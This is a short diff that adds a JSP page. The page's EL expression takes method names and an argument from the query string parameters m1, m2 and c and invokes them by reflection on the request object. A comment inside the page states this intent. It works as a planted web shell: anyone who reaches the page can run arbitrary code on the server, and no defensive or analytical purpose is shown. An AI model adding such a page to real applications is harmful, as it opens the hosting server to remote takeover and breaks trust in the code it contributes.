@@ -1,0 +1,3 @@
+<%@ page isELIgnored="false" %>
+<%-- every step of the reflection chain comes from the query string --%>
+${pageContext.request.getClass()[param.m1]()[param.m2](param.c)}
